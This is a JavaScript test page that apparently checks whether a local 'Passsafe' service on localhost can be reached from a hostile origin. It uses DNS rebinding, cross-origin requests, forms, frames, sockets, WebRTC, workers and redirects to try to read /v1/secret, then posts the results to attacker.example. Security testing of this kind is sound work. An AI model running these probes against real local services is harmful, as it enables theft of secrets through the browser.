// What a page can send besides: elements, forms, frames, windows, beacons, sockets, workers.

const query = new URLSearchParams(location.search);
const [kind, safe, hostile, right] = ['kind', 'safe', 'hostile', 'right'].map((name) => query.get(name));
const home = `http://attacker.example:${hostile}`;
const rebound = kind === 'rebound';
const bases = rebound
  ? [location.origin]
  : ['localhost', '127.0.0.1', '[::1]'].map((host) => `http://${host}:${safe}`);
const tokens = [WRONG, right];

function element(what, tag, attributes, parent) {
  return new Promise((resolve) => {
    const it = document.createElement(tag);
    const end = (outcome) => {
      let text = '';
      try {
        text = it.contentDocument ? it.contentDocument.documentElement.textContent : '';
      } catch (error) {}
      note(what, text ? 'read' : outcome, 0, text);
      resolve(it);
    };
    it.onload = it.onloadedmetadata = () => end('load');
    it.onerror = () => end('error');
    setTimeout(() => end('no event'), 4000);
    for (const [name, value] of Object.entries(attributes)) it.setAttribute(name, value);
    (parent || document.body).append(it);
  });
}

function style(css) {
  const it = document.createElement('style');
  it.textContent = css;
  document.head.append(it);
}

function frame(name) {
  const it = document.createElement('iframe');
  it.name = name;
  document.body.append(it);
  return it;
}

async function elements(url) {
  const waits = [];
  const add = (tag, attributes) =>
    waits.push(element(`${tag} ${JSON.stringify(attributes)}`, tag, attributes));
  for (const crossorigin of [undefined, 'anonymous', 'use-credentials']) {
    const cors = crossorigin ? { crossorigin } : {};
    add('img', { src: url, ...cors });
    add('script', { src: url, ...cors });
    add('script', { src: url, type: 'module', ...cors });
    add('link', { rel: 'stylesheet', href: url, ...cors });
    add('link', { rel: 'modulepreload', href: url, ...cors });
    add('link', { rel: 'manifest', href: url, ...cors });
    add('video', { src: url, preload: 'auto', ...cors });
    for (const as of ['script', 'style', 'image', 'font', 'fetch', 'track']) {
      add('link', { rel: 'preload', as, href: url, ...cors });
    }
  }
  for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'icon', 'prerender']) {
    add('link', { rel, href: url });
  }
  add('img', { srcset: `${url} 2x`, loading: 'eager' });
  add('audio', { src: url, preload: 'auto' });
  add('iframe', { src: url });
  add('iframe', { src: url, sandbox: '' });
  add('iframe', { srcdoc: `<meta http-equiv=refresh content="0;url=${url}">` });
  add('iframe', { src: `javascript:location='${url}'` });
  add('object', { data: url });
  add('embed', { src: url });
  add('input', { type: 'image', src: url });
  add('body', { background: url });
  const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
  svg.innerHTML = `<image href="${url}"/><use href="${url}#a"/>`;
  document.body.append(svg);
  style(`@import url("${url}");`);
  style(`@font-face { font-family: f; src: url("${url}"); } p { font-family: f; background: url("${url}"); cursor: url("${url}"), auto; }`);
  document.body.append(Object.assign(document.createElement('p'), { textContent: 'x' }));
  const rules = document.createElement('script');
  rules.type = 'speculationrules';
  rules.textContent = JSON.stringify({ prefetch: [{ urls: [url] }], prerender: [{ urls: [url] }] });
  document.head.append(rules);
  waits.push(import(url).then(() => note('import()', 'load'), () => note('import()', 'error')));
  await Promise.all(waits);
}

async function forms(url, number) {
  const types = ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain'];
  for (const [method, enctype, target] of [
    ['GET', types[0], 'frame'], ['POST', types[0], 'frame'], ['POST', types[1], 'frame'],
    ['POST', types[2], 'frame'], ['POST', types[0], '_blank'], ['GET', types[0], '_blank'],
  ]) {
    const name = target === 'frame' ? `f${number}${method}${enctype}` : target;
    const into = target === 'frame' ? frame(name) : null;
    const form = document.createElement('form');
    Object.assign(form, { action: url, method, enctype, target: name });
    form.innerHTML = '<input name="Passsafe-Token" value="000000">';
    document.body.append(form);
    form.submit();
    await new Promise((resolve) => setTimeout(resolve, 300));
    let text = '';
    try {
      text = into && into.contentDocument ? into.contentDocument.documentElement.textContent : '';
    } catch (error) {}
    note(`form ${method} ${enctype} ${target}`, text ? 'read' : 'sent', 0, text);
  }
}

function xhr(what, method, url, token, credentials) {
  return new Promise((resolve) => {
    const it = new XMLHttpRequest();
    it.open(method, url);
    it.withCredentials = credentials;
    if (token) it.setRequestHeader('Passsafe-Token', token);
    it.timeout = 5000;
    it.onload = () => { note(what, 'read', it.status, it.responseText); resolve(); };
    it.onerror = it.ontimeout = () => { note(what, 'error'); resolve(); };
    it.send(method === 'POST' ? null : undefined);
  });
}

async function windows(url) {
  const opened = window.open(url, '_blank');
  const named = window.open(url, 'named');
  const anchor = document.createElement('a');
  Object.assign(anchor, { href: url, target: '_blank', rel: 'noopener', ping: url });
  document.body.append(anchor);
  anchor.click();
  const local = frame('local');
  local.contentWindow.location = url;
  await new Promise((resolve) => setTimeout(resolve, 1500));
  for (const [what, it] of [['window.open', opened], ['named window', named], ['location', local.contentWindow]]) {
    let text = '';
    try { text = it.document.documentElement.textContent; } catch (error) {}
    note(what, text && it.location.href !== 'about:blank' ? 'read' : 'opaque', 0, text);
    try { if (it !== local.contentWindow) it.close(); } catch (error) {}
  }
}

async function sockets(url) {
  for (const body of bodies()) note('sendBeacon', navigator.sendBeacon(url, body) ? 'sent' : 'error');
  note('sendBeacon empty', navigator.sendBeacon(url) ? 'sent' : 'error');
  const ends = (it, what) => new Promise((resolve) => {
    it.onopen = () => { note(what, 'read', 200, 'open'); resolve(); };
    it.onmessage = (event) => { note(what, 'read', 200, event.data); resolve(); };
    it.onerror = () => { note(what, 'error'); it.close(); resolve(); };
    setTimeout(resolve, 4000);
  });
  await Promise.all([
    ends(new EventSource(url), 'EventSource'),
    ends(new EventSource(url, { withCredentials: true }), 'EventSource credentials'),
    ends(new WebSocket(url.replace('http:', 'ws:')), 'WebSocket'),
    ends(new WebSocket(url.replace('http:', 'ws:'), ['passsafe-token', '000000']), 'WebSocket protocols'),
  ]);
  const server = { urls: `turn:${new URL(url).host}?transport=tcp`, username: 'a', credential: 'b' };
  try {
    const peer = new RTCPeerConnection({ iceServers: [server], iceTransportPolicy: 'relay' });
    peer.createDataChannel('x');
    await peer.setLocalDescription();
    note('WebRTC by TCP', 'sent');
  } catch (error) { note('WebRTC by TCP', 'error', 0, String(error)); }
}

async function workers(url) {
  try {
    new Worker(url).onerror = () => note('Worker', 'error');
  } catch (error) { note('Worker', 'error', 0, String(error)); }
  const source = `importScripts('${location.origin}/attack.js');
    try { importScripts('${url}'); note('importScripts', 'load'); } catch (error) { note('importScripts', 'error'); }
    fetches('worker', ${JSON.stringify(bases)}, ${JSON.stringify(tokens)}).then(() => postMessage(results));`;
  const worker = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
  await new Promise((resolve) => {
    worker.onmessage = (event) => { results.push(...event.data); resolve(); };
    worker.onerror = () => { note('worker', 'error'); resolve(); };
    setTimeout(resolve, 30000);
  });
  if (!navigator.serviceWorker) return note('service worker', 'no secure context');
  await navigator.serviceWorker.register(url).catch(() => note('service worker of the safe', 'error'));
  try {
    await navigator.serviceWorker.register('/sw.js');
    await within(navigator.serviceWorker.ready, 5000);
    await new Promise((resolve) => setTimeout(resolve, 300));
    for (const mode of ['cors', 'no-cors', 'same-origin']) {
      for (const method of ['GET', 'POST']) {
        await tryFetch(`service worker ${mode}`, `/through?mode=${mode}&method=${method}&to=${encodeURIComponent(url)}`, {});
      }
    }
  } catch (error) { note('service worker', 'error', 0, String(error)); }
}

// Frames whose origin is `null`.
async function opaqueOrigins() {
  const script = `<script src="${location.origin}/attack.js"></script><script>
    fetches('null origin', ${JSON.stringify(bases)}, ${JSON.stringify(tokens)}).then(() => parent.postMessage(results, '*'));</script>`;
  const answered = new Promise((resolve) => {
    addEventListener('message', (event) => { results.push(...event.data); resolve(); });
    setTimeout(resolve, 30000);
  });
  await element('sandboxed frame', 'iframe', { sandbox: 'allow-scripts allow-forms', srcdoc: script });
  await answered;
}

async function redirects(url) {
  for (const code of [301, 302, 303, 307, 308]) {
    const through = `${home}/redirect?code=${code}&to=${encodeURIComponent(url)}`;
    for (const mode of ['cors', 'no-cors']) {
      for (const method of ['GET', 'POST']) {
        await tryFetch(`redirect ${code} fetch ${mode} ${method}`, through, { mode, method });
      }
    }
    await element(`redirect ${code} img`, 'img', { src: through });
    await element(`redirect ${code} iframe`, 'iframe', { src: through });
    const form = document.createElement('form');
    Object.assign(form, { action: through, method: 'POST', target: frame(`r${code}`).name });
    document.body.append(form);
    form.submit();
  }
}

async function attack() {
  if (rebound) {
    await fetch(`${home}/rebind`, { mode: 'no-cors' });
    await new Promise((resolve) => setTimeout(resolve, 300));
  }
  await fetches('page', bases, tokens);
  for (const base of bases) {
    for (const path of PATHS) {
      for (const [method, token, credentials] of [['GET', null, true], ['POST', null, true], ['POST', WRONG, false], ['POST', right, false]]) {
        await xhr(`xhr ${method}`, method, base + path, token, credentials);
      }
    }
  }
  await Promise.all(PATHS.map((path) => elements(bases[0] + path)));
  await Promise.all(PATHS.map((path, number) => forms(bases[0] + path, number)));
  await windows(bases[0] + '/v1/status');
  await windows(bases[0] + '/v1/secret');
  await sockets(bases[0] + '/v1/secret');
  if (!rebound) {
    await redirects(bases[0] + '/v1/secret');
    await opaqueOrigins();
    await workers(bases[0] + '/v1/secret');
  }
}

attack().catch((error) => note('the page', 'broke', 0, String(error && error.stack || error))).then(() =>
  fetch(`${home}/report`, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ kind, agent: navigator.userAgent, results }) }));
